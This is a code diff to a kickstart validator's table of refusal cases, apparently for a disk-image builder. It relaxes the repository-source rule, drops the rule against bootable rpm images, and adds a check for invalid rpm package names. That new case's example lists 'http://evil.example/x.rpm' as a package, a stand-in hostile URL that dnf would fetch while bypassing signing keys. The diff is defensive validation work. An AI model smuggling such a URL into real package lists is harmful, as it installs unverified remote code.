@@ -112,13 +112,13 @@ export const refusals = {
     },
   },
   'repo-without-baseurl': {
-    summary: 'a repository given by a mirror list or metalink only',
+    summary: 'a repository with neither --baseurl nor --mirrorlist nor --metalink',
     example: {
-      kickstart: 'repo --name=fedora --mirrorlist=http://mirrors.example/list\n',
+      kickstart: 'repo --name=fedora\n',
       type: 'fs',
       arch: 'x86_64',
       line: 1,
-      says: 'repo fedora: the native builder needs --baseurl',
+      says: 'repo fedora: the native builder needs --baseurl, --mirrorlist or --metalink',
     },
   },
   'signing-key': {
@@ -174,6 +174,18 @@ export const refusals = {
       says: '"?true" is not a Debian package name',
     },
   },
+  'rpm-package-name': {
+    summary:
+      'a package for dnf that is a path, a URL or an option, not a name (dnf would fetch a URL past the keys)',
+    example: {
+      kickstart:
+        'repo --name=rpms --baseurl=http://rpm.example/os --type=rpm\n%packages\nbash\nhttp://evil.example/x.rpm\n%end\n',
+      type: 'fs',
+      arch: 'x86_64',
+      line: 4,
+      says: '"http://evil.example/x.rpm" is not an rpm package name',
+    },
+  },
   'mixed-package-managers': {
     summary: 'apt archives and rpm repositories in one image',
     example: {
@@ -183,15 +195,6 @@ export const refusals = {
       arch: 'x86_64',
       line: 2,
       says: 'one image uses one package manager',
-    },
-  },
-  'rpm-not-bootable': {
-    summary: 'a bootable image from rpm repositories (they give fs and loop images only)',
-    example: {
-      kickstart: 'repo --name=rpms --baseurl=http://rpm.example/os --type=rpm\n',
-      ...x86Raw,
-      line: 1,
-      says: 'rpm repositories give fs and loop images only',
     },
   },
   'apt-group': {
